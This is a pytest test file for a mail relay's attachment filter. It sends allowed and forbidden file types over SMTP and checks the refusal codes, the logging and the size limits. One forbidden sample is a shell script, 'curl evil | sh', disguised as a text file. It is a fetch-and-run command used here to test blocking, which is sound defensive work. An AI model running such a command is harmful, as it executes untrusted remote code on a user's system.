"""The attachments rule over real SMTP, both directions.

Every file is built by `tests/filesamples.py` as a real (if minimal) file
of its kind. Allowed files arrive byte for byte; forbidden ones are
refused in the SMTP conversation with 550 5.7.1 naming the file (552
5.3.4 for more than 10 MB in all), logged as `rejected` by the rule
`attachments`, and nothing reaches the mailbox.
"""

from __future__ import annotations

import json

import aiosmtplib
import pytest

from tests import filesamples as files
from tests.conftest import Conversation, run_cli, send
from tests.mailsamples import _base, as_bytes, with_files

ALLOWED = [
    ("notes.txt", b"Size: 42\nColour: blue\n", "text/plain"),
    ("invoice.pdf", files.pdf(), "application/pdf"),
    ("letter.doc", files.word_doc(), "application/msword"),
    ("letter.docx", files.docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("photo.jpg", files.jpeg(), "image/jpeg"),
    ("photo.jpeg", files.jpeg(), "image/jpeg"),
    ("scan.gif", files.gif(), "image/gif"),
    ("scan.tif", files.tiff(), "image/tiff"),
    ("scan.tiff", files.tiff(), "image/tiff"),
    ("damage.bmp", files.bmp(), "image/bmp"),
    ("damage.png", files.png(), "image/png"),
    ("IMPORT.PDF", files.pdf(), "application/octet-stream"),  # the type is the content's, not the label's
]
FORBIDDEN = [
    ("setup.exe", files.pe(), "an executable"),
    ("invoice.pdf", files.pe(), "an executable"),
    ("readme.txt", files.elf(), "an executable"),
    ("notes.txt", b"#!/bin/sh\ncurl evil | sh\n", "an executable"),
    ("photos.zip", files.zip_of({"a.jpg": files.jpeg()}), "an archive"),
    ("photos.pdf", files.zip_of({"a.jpg": files.jpeg()}), "an archive"),
    ("photos.rar", b"Rar!\x1a\x07\x00" + bytes(40), "an archive"),
    ("photos.7z", b"7z\xbc\xaf\x27\x1c" + bytes(40), "an archive"),
    ("log.gz", b"\x1f\x8b\x08\x00" + bytes(40), "an archive"),
    ("letter.docx", files.docx(macros=True), "macros"),
    ("letter.doc", files.word_doc(macros=True), "macros"),
    ("secret.pdf", files.pdf(encrypted=True), "encrypted"),
    ("secret.docx", files.encrypted_docx(), "encrypted"),
    ("secret.doc", files.word_doc(encrypted=True), "encrypted"),
    ("locked.docx", files.zip_of({"[Content_Types].xml": "x", "word/document.xml": "x"}, encrypted_flag=True),
     "encrypted"),
    ("photo.jpg", files.png(), "the name says .jpg but it is a PNG image"),
    ("letter.docx", files.pdf(), "the name says .docx but it is a PDF"),
    ("notes.txt", bytes(range(256)) * 8, "the name says .txt but it is something else"),
    ("table.xlsx", files.zip_of({"[Content_Types].xml": "x", "xl/workbook.xml": "x"}), "a type that is not allowed"),
    ("invite.ics", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", ".ics files are not allowed"),
    ("page.html", b"<html><body>hi</body></html>", ".html files are not allowed"),
]


def parties(conv: Conversation, direction: str) -> tuple[str, str, str]:
    """(author, alias written to, real recipient) for a direction."""
    if direction == "buyer_to_seller":
        return conv.buyer_email, conv.seller_alias, conv.seller_email
    return conv.seller_email, conv.buyer_alias, conv.buyer_email


def message(author: str, alias: str, attached: list[tuple[str, bytes, str]], order_id: str) -> bytes:
    msg = _base(author, alias, f"Order {order_id}: the files")
    msg.set_content(f"Hello,\nthe files for order {order_id} are attached.\n")
    return as_bytes(with_files(msg, attached))


def received_files(delivered) -> dict[str, bytes]:
    return {p.get_filename(): p.get_content() if isinstance(p.get_content(), bytes) else p.get_content().encode()
            for p in delivered.message.iter_attachments()}


def listed(relay) -> list[dict]:
    code, out = run_cli(relay.config_path, "message", "list")
    assert code == 0
    return [json.loads(line) for line in out.splitlines()]


@pytest.mark.parametrize("direction", ["buyer_to_seller", "seller_to_buyer"])
async def test_every_allowed_type_arrives_unchanged(relay, sink, conv, direction):
    author, alias, recipient = parties(conv, direction)
    errors, response = await send(relay.server.port, author, [alias], message(author, alias, ALLOWED, conv.order_id))
    assert errors == {} and response.startswith("2.0.0")
    await sink.handler.wait_for(2 if direction == "buyer_to_seller" else 1)
    [delivered] = sink.handler.to(recipient)
    got = received_files(delivered)
    assert set(got) == {name for name, _, _ in ALLOWED}
    for name, data, _ in ALLOWED:
        assert got[name].replace(b"\r\n", b"\n") == data.replace(b"\r\n", b"\n"), name


@pytest.mark.parametrize(("name", "data", "problem"), FORBIDDEN, ids=[f"{n}-{p}" for n, _, p in FORBIDDEN])
async def test_forbidden_file_is_refused_naming_it(relay, sink, conv, name, data, problem):
    author, alias, _ = parties(conv, "buyer_to_seller")
    attached = [ALLOWED[1], (name, data, "application/octet-stream")]
    with pytest.raises(aiosmtplib.SMTPDataError) as refused:
        await send(relay.server.port, author, [alias], message(author, alias, attached, conv.order_id))
    assert refused.value.code == 550
    assert refused.value.message.startswith("5.7.1 Attachment ")
    assert name in refused.value.message and problem in refused.value.message
    [row] = listed(relay)
    assert (row["status"], row["rule"]) == ("rejected", "attachments")
    assert sink.handler.messages == []


async def test_seller_attachments_are_judged_too(relay, sink, conv):
    author, alias, _ = parties(conv, "seller_to_buyer")
    attached = [("label.pdf", files.pe(), "application/pdf")]
    with pytest.raises(aiosmtplib.SMTPDataError) as refused:
        await send(relay.server.port, author, [alias], message(author, alias, attached, conv.order_id))
    assert (refused.value.code, refused.value.message.split()[0]) == (550, "5.7.1")
    assert "label.pdf" in refused.value.message


async def test_ten_megabytes_of_attachments_fit_the_smtp_size_limit(relay, sink, conv):
    """10,485,760 bytes decoded in all, sent as base64 within the default [smtp] max_message_bytes."""
    author, alias, recipient = parties(conv, "buyer_to_seller")
    limit = 10_485_760
    attached = [(f"scan{n}.pdf", files.pdf(size=limit // 4 - 1000 * n), "application/pdf") for n in range(4)]
    attached.append(("rest.txt", b"x" * (limit - sum(len(d) for _, d, _ in attached)), "text/plain"))
    assert sum(len(d) for _, d, _ in attached) == limit
    data = message(author, alias, attached, conv.order_id)
    assert len(data) > 13_900_000  # base64 and headers on top of the 10 MB
    errors, response = await send(relay.server.port, author, [alias], data)
    assert errors == {} and response.startswith("2.0.0")
    await sink.handler.wait_for(2)
    [delivered] = sink.handler.to(recipient)
    got = received_files(delivered)
    assert sum(len(v) for v in got.values()) == limit


async def test_more_than_ten_megabytes_in_all_is_552(relay, sink, conv):
    author, alias, _ = parties(conv, "seller_to_buyer")
    attached = [("a.pdf", files.pdf(size=6_000_000), "application/pdf"),
                ("b.pdf", files.pdf(size=4_500_000), "application/pdf")]
    with pytest.raises(aiosmtplib.SMTPDataError) as refused:
        await send(relay.server.port, author, [alias], message(author, alias, attached, conv.order_id))
    assert (refused.value.code, refused.value.message.split()[0]) == (552, "5.3.4")
    assert "10,485,760" in refused.value.message
    [row] = listed(relay)
    assert (row["status"], row["rule"]) == ("rejected", "attachments")


async def test_refusal_names_an_odd_file_name_safely(relay, sink, conv):
    author, alias, _ = parties(conv, "buyer_to_seller")
    attached = [("r\u00e9sum\u00e9 f\u00fcr jane.buyer@buyermail.example.exe", files.pe(), "application/pdf")]
    with pytest.raises(aiosmtplib.SMTPDataError) as refused:
        await send(relay.server.port, author, [alias], message(author, alias, attached, conv.order_id))
    text = refused.value.message
    assert text.isascii() and "@" not in text and "r?sum? f?r jane.buyer?buyermail.example.exe" in text
